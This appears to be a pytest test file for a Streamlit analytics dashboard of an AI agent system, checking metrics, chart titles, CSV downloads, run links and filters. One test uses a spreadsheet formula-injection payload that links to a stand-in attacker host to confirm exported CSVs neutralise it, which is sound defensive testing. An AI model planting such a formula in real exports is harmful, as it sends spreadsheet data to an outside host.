"""The Analytics page on a real store: the headline figures, charts with titles, every table
with its CSV download (the data, checked), links from the slowest and dearest runs to their
page, the filters, and empty states that say what to do."""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime, timedelta

import pandas as pd
import pytest
import streamlit.testing.v1.app_test as app_test
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

from agent_core import api
from agent_core.models import RunStatus, StopReason, ToolCallStatus
from dashboard.shell import PAGES
from tests.analytics_support import Answer, Invalid, Recorder
from tests.dashboard_support import no_traceback, text, visible
from tests.support import make_objective

PRICES = "model-a=1/2,model-b=0.5"


@pytest.fixture
def downloads(monkeypatch):
    """What each download button of the last run holds: AppTest keeps download data in an
    in-memory media store that it drops after the run; this keeps a hold of it."""
    kept: list[MemoryMediaFileStorage] = []

    class Kept(MemoryMediaFileStorage):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            kept.append(self)

    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", Kept)

    def data(at, key):
        button = next(b for b in at.get("download_button") if b.proto.id.endswith(key))
        return kept[-1].get_file(button.proto.url.rsplit("/", 1)[1]).content

    return data


@pytest.fixture
def recorded(live_store, monkeypatch):
    """Three runs of two objectives, created now (the page shows the last 7 days)."""
    monkeypatch.setenv("AGENT_MODEL_PRICES", PRICES)
    leads = make_objective(live_store, title="Weekly leads")
    invoices = make_objective(live_store, title="Invoices")
    record = Recorder(live_store, None)
    quick = record.run(
        leads.id,
        answers=(
            Answer("model-a", 1000, 500, 300, "count_database"),
            Answer("model-a", 200, 50, 200),
        ),
        active_ms=1_500,
    )
    slow = record.run(
        invoices.id,
        answers=(
            Invalid("model-a", 100, 10, 50),
            Answer("model-b", 400, 100, 800, "send_email", ToolCallStatus.DENIED),
            Answer("mystery-model", 300, 30, 900, "count_database", ToolCallStatus.FAILED),
        ),
        status=RunStatus.FAILED,
        stop_reason=StopReason.BUDGET_STEPS,
        active_ms=95_000,
    )
    waiting = record.paused(leads.id).run
    return {"leads": leads, "invoices": invoices, "quick": quick, "slow": slow, "wait": waiting}


def metrics(at):
    return {metric.label: metric.value for metric in at.metric}


def chart_titles(at):
    titles = []
    for chart in at.get("vega_lite_chart"):
        spec = json.loads(chart.proto.spec)
        title = spec.get("title")
        titles.append(title.get("text") if isinstance(title, dict) else title)
    return titles


def test_the_page_is_in_the_navigation_between_approvals_and_system():
    order = [spec.url_path for spec in PAGES if not spec.hidden]
    assert order[order.index("approvals") + 1 : order.index("system")] == ["analytics"]
    assert next(spec for spec in PAGES if spec.url_path == "analytics").title == "Analytics"


def test_headline_figures_and_charts_a_reader_understands(dashboard, recorded):
    at = dashboard.open("analytics")
    no_traceback(at)
    shown = metrics(at)
    assert shown["Runs"] == "3"
    assert shown["Success rate"] == "50%"  # one completed, one failed; one waits
    # model-a: 1,400 prompt and 570 completion tokens at 1/2 USD per 1,000; model-b 500 at 0.5
    assert shown["Cost"] == "$2.79"
    assert shown["Median run time"] == "48.2 s"  # between 1.5 s and 95 s
    assert shown["Approvals waiting"] == "1"
    assert chart_titles(at) == [
        "Runs per day, by outcome",
        "Cost per day (USD)",
        "Tool calls, by result",
    ]
    page = text(at)
    assert "Do the agents work?" in page
    assert "What do they cost?" in page
    assert "Where do they get stuck?" in page
    # the model without a price: its tokens are named, and how to price them
    warning = visible(next(item.value for item in at.warning if "AGENT_MODEL_PRICES" in item.value))
    assert "330 tokens have no price (mystery-model)" in warning
    assert "for example `mystery-model=0.5/1.5` (input/output)" in warning
    reasons = next(frame.value for frame in at.dataframe if "Why" in frame.value.columns)
    assert "The run used all the steps its budget allows before finishing." in set(reasons["Why"])


def test_every_table_downloads_as_csv_with_its_data(dashboard, recorded, live_store, downloads):
    at = dashboard.open("analytics")
    no_traceback(at)
    keys = {button.proto.id.rsplit("-", 1)[1] for button in at.get("download_button")}
    assert {
        "csv_stop_reasons",
        "csv_budgets_exhausted",
        "csv_cost_by_objective",
        "csv_models",
        "csv_run_distributions",
        "csv_tools",
        "csv_refusals",
        "csv_approvals_by_tool",
        "csv_slowest_runs",
        "csv_most_expensive_runs",
    } <= keys
    assert len(keys) == len(at.get("download_button"))  # one per table, each its own key
    assert len(at.dataframe) == len(keys) - 2  # the two lists of runs are links, not tables

    models = pd.read_csv(io.BytesIO(downloads(at, "csv_models")))
    today = datetime.now(UTC).date()
    since = datetime.combine(today - timedelta(days=6), datetime.min.time(), tzinfo=UTC)
    expected = api.model_stats(
        live_store, since=since, prices=api.load_settings().agent_model_prices
    )
    assert models["model"].tolist() == expected["model"].tolist()
    assert models["tokens"].tolist() == expected["tokens"].tolist()
    assert models["cost_usd"].tolist() == pytest.approx(expected["cost_usd"].tolist(), nan_ok=True)
    assert models.loc[models["model"] == "mystery-model", "price_source"].tolist() == ["no price"]

    slowest = pd.read_csv(io.BytesIO(downloads(at, "csv_slowest_runs")))
    assert slowest["run_id"].tolist()[0] == recorded["slow"].id
    assert slowest["duration_ms"].tolist()[0] == 95_000


def test_a_tool_name_written_as_a_formula_downloads_as_text(dashboard, live_store, downloads):
    """The LLM names the tools it asks for, refused ones included: a name a spreadsheet
    would run as a formula (a link sending the sheet's data away) stays text in the CSV."""
    formula = '=HYPERLINK("http://evil.example/?"&A2,"open")'
    objective = make_objective(live_store, title="Weekly leads")
    Recorder(live_store, None).run(
        objective.id,
        answers=(Answer("model-a", 10, 5, 100, formula, call=ToolCallStatus.DENIED),),
    )
    at = dashboard.open("analytics")
    no_traceback(at)

    for key in ("csv_tools", "csv_refusals"):
        table = pd.read_csv(io.BytesIO(downloads(at, key)), dtype=str)
        cells = [cell for column in table.columns for cell in table[column].dropna()]
        assert "'" + formula in cells, key
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells), key


def test_the_slowest_and_dearest_runs_link_to_their_page(dashboard, recorded):
    at = dashboard.open("analytics")
    no_traceback(at)
    links = {link.proto.query_string: link.label for link in at.get("page_link")}
    slow, quick = recorded["slow"], recorded["quick"]
    assert links[f"id={slow.id}"] == f"Run #{slow.run_number} · Invoices"
    assert links[f"id={quick.id}"] == f"Run #{quick.run_number} · Weekly leads"
    page = text(at)
    assert "1 min 35 s working · 2 steps" in page
    assert "$2.30 · 1,750 tokens" in page  # the dearest run


def test_the_objective_filter(dashboard, recorded):
    at = dashboard.open("analytics")
    at.selectbox(key="analytics_objective").select(recorded["invoices"].id).run()
    no_traceback(at)
    shown = metrics(at)
    assert shown["Runs"] == "1"
    assert shown["Success rate"] == "0%"
    assert shown["Approvals waiting"] == "0"


def test_a_range_without_runs_says_what_to_do(dashboard, recorded):
    at = dashboard.open("analytics")
    at.date_input(key="analytics_dates").set_value(
        (datetime(2020, 1, 1).date(), datetime(2020, 1, 31).date())
    ).run()
    no_traceback(at)
    assert "No run was created between 2020-01-01 and 2020-01-31. Widen the dates" in text(at)
    assert not at.metric


def test_no_run_yet_says_to_create_an_objective(dashboard):
    at = dashboard.open("analytics")
    no_traceback(at)
    assert "No run yet, so nothing to measure. Create an objective" in text(at)
    assert "Objectives" in [link.label for link in at.get("page_link")]
    assert not at.get("vega_lite_chart")
